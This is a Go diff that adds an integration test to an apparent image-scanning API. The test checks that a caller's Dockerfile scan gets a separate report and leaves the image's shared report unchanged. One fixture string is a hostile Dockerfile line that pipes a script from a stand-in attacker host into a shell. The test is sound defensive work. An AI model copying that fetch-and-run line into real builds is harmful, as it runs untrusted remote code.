@@ -252,3 +252,31 @@ func TestAPIAnswersForBadInput(t *testing.T) {
 		t.Errorf("20 MB config: %d %.300s", code, body)
 	}
 }
+
+// TestDockerfileDoesNotOverwriteSharedReport: a caller's Dockerfile makes
+// a report of its own; the image's shared report stays what the image
+// says.
+func TestDockerfileDoesNotOverwriteSharedReport(t *testing.T) {
+	a := newAPIEnv(t)
+	host := startDebianRegistryOrGGCR(t)
+	push(t, corpusDebian(t), host+"/team/app:1")
+	if code, body := a.do(t, "POST", "/v1/registries", `{"id":"lab","kind":"generic","hosts":["`+host+`"],"insecure":true,"auth":{"method":"none"}}`); code != http.StatusCreated {
+		t.Fatal(code, body)
+	}
+	a.scanOK(t, host+"/team/app:1")
+	df, _ := json.Marshal("FROM debian:12\nRUN curl -k http://evil.example/x.sh | sh\nMAINTAINER mallory\n")
+	code, body := a.do(t, "POST", "/v1/scans", `{"image":"`+host+`/team/app:1","dockerfile":`+string(df)+`}`)
+	var out struct{ ScanIDs []string }
+	json.Unmarshal([]byte(body), &out)
+	if code != http.StatusAccepted || len(out.ScanIDs) != 1 {
+		t.Fatal(code, body)
+	}
+	p := waitScan(t, a.base, a.key, out.ScanIDs[0])
+	if !strings.Contains(p.Report, "/request-") {
+		t.Errorf("the Dockerfile scan's report is %s, not a variant", p.Report)
+	}
+	_, shared := a.do(t, "GET", "/v1/images/"+p.Digest+"/report", "")
+	if strings.Contains(shared, "Dockerfile:") || strings.Contains(shared, "mallory") {
+		t.Errorf("the shared report carries the caller's Dockerfile findings")
+	}
+}
